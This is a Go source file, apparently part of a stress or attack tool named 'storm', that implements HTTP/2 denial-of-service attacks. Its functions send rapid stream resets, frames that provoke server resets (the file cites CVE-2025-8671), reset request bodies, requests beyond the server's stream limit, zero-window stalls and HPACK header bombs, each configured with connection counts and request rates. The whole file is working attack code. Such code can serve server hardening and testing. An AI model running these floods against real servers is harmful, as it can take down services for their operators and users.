package storm

import (
	"math"

	"golang.org/x/net/http2"
)

// A batch is what goes out with one write.
const batch = 20

func streamAttacks() []Attack {
	return []Attack{
		{Name: "rapid reset", What: "requests, each reset at once", Unit: "streams reset",
			Conns: 16, Dials: 40, Rate: 6000, Needs: HTTP2, run: rapidReset},
		{Name: "rapid reset unread", What: "the same, with no answer read", Unit: "streams reset",
			Conns: 16, Dials: 40, Rate: 6000, Needs: HTTP2, run: rapidResetUnread},
		{Name: "provoked resets", What: "requests, each followed by what makes the server reset it", Unit: "streams",
			Conns: 24, Dials: 40, Rate: 6000, Needs: HTTP2, run: provoked},
		{Name: "reset bodies", What: "requests with a body, reset before its end", Unit: "streams reset",
			Conns: 16, Dials: 40, Rate: 3000, Needs: HTTP2, run: resetBodies},
		{Name: "too many streams", What: "requests far beyond what the server allows at a time", Unit: "streams",
			Conns: 16, Dials: 40, Rate: 6000, Needs: HTTP2, run: manyStreams},
		{Name: "zero window", What: "many requests at a time whose answers may not be sent", Unit: "streams",
			Conns: 64, Dials: 40, Rate: 4000, Needs: HTTP2, run: zeroWindow},
		{Name: "HPACK bomb, zero window", What: "heads of a few bytes that unfold to 15 KB each, of streams that cannot be answered", Unit: "streams",
			Conns: 64, Dials: 40, Rate: 4000, Needs: HTTP2, run: bombs},
		{Name: "HPACK bomb, endless", What: "heads of 4 KB that unfold to 15 MB", Unit: "heads",
			Conns: 16, Dials: 40, Rate: 200, Needs: HTTP2, run: largeBombs},
	}
}

func (s *storm) reset(c *line, reads bool) error {
	h := s.open(c, reads)
	return h.repeat(batch, func() {
		for range batch {
			n := h.stream()
			h.headers(n, true, h.request("GET", s.to.Page))
			_ = h.fr.WriteRSTStream(n, http2.ErrCodeCancel)
		}
	})
}

func rapidReset(s *storm, c *line) error       { return s.reset(c, true) }
func rapidResetUnread(s *storm, c *line) error { return s.reset(c, false) }

// provocation makes the server reset a stream that was just opened (CVE-2025-8671).
type provocation struct {
	name string
	do   func(h *session, stream uint32)
}

func provocations() []provocation {
	return []provocation{
		{"window update of 0", func(h *session, n uint32) {
			_ = h.fr.WriteRawFrame(http2.FrameWindowUpdate, 0, n, []byte{0, 0, 0, 0})
		}},
		{"window overflow", func(h *session, n uint32) { _ = h.fr.WriteWindowUpdate(n, math.MaxInt32) }},
		{"headers on half-closed", func(h *session, n uint32) { h.headers(n, true, h.request("GET", h.s.to.Page)) }},
		{"data on half-closed", func(h *session, n uint32) { _ = h.fr.WriteData(n, true, []byte("a")) }},
		{"priority of a wrong length", func(h *session, n uint32) {
			_ = h.fr.WriteRawFrame(http2.FramePriority, 0, n, []byte{0, 0, 0, 0})
		}},
		{"priority on itself", func(h *session, n uint32) {
			_ = h.fr.WritePriority(n, http2.PriorityParam{StreamDep: n, Weight: 15})
		}},
	}
}

// provoked does one of them on each connection, since one may end the connection.
func provoked(s *storm, c *line) error {
	list := provocations()
	p := list[c.n%uint64(len(list))]
	h := s.open(c, true)
	return h.repeat(batch, func() {
		s.kind(p.name, batch)
		for range batch {
			n := h.stream()
			h.headers(n, true, h.request("GET", s.to.Page))
			p.do(h, n)
		}
	})
}

func resetBodies(s *storm, c *line) error {
	h := s.open(c, true)
	return h.repeat(batch, func() {
		for range batch {
			n := h.stream()
			h.headers(n, false, h.request("POST", s.to.Sink, "content-length", "1000000"))
			_ = h.fr.WriteData(n, false, []byte("a"))
			_ = h.fr.WriteRSTStream(n, http2.ErrCodeCancel)
		}
	})
}

func manyStreams(s *storm, c *line) error {
	h := s.open(c, true)
	return h.repeat(batch, func() {
		for range batch {
			h.headers(h.stream(), true, h.request("GET", s.to.Large))
		}
	})
}

// inWindow is how many streams a connection opens that are to wait.
const inWindow = 100

func zeroWindow(s *storm, c *line) error {
	h := s.open(c, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for range inWindow {
		if !s.may(1) {
			return nil
		}
		h.headers(h.stream(), true, h.request("GET", s.to.Large))
		if err := h.flush(); err != nil {
			return err
		}
	}
	return h.hold()
}

// filler is a field whose entry takes most of the dynamic table (RFC 7541, section
// 4.1: 32 bytes more than name and value).
func filler(size int) (name, value string) {
	b := make([]byte, size-32-len("x-fill"))
	for i := range b {
		b[i] = 'a' + byte(i%26)
	}
	return "x-fill", string(b)
}

// repeated is so many fields of one entry, which is set by the first.
func repeated(n, size int) []string {
	name, value := filler(size)
	var list []string
	for range n {
		list = append(list, name, value)
	}
	return list
}

func bombs(s *storm, c *line) error {
	h := s.open(c, true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for range inWindow {
		if !s.may(1) {
			return nil
		}
		h.headers(h.stream(), true, h.request("GET", s.to.Large, repeated(5, 3000)...))
		if err := h.flush(); err != nil {
			return err
		}
	}
	return h.hold()
}

func largeBombs(s *storm, c *line) error {
	h := s.open(c, true)
	fields := repeated(4000, 3700)
	return h.repeat(1, func() { h.split(h.stream(), h.request("GET", s.to.Page, fields...)) })
}

// split sends a head in frames of the least size that every server takes.
func (h *session) split(stream uint32, block []byte) {
	const most = 16 << 10
	first, rest := block[:min(most, len(block))], block[min(most, len(block)):]
	_ = h.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndStream: true, EndHeaders: len(rest) == 0})
	for len(rest) > 0 {
		part := rest[:min(most, len(rest))]
		rest = rest[len(part):]
		_ = h.fr.WriteContinuation(stream, len(rest) == 0, part)
	}
}
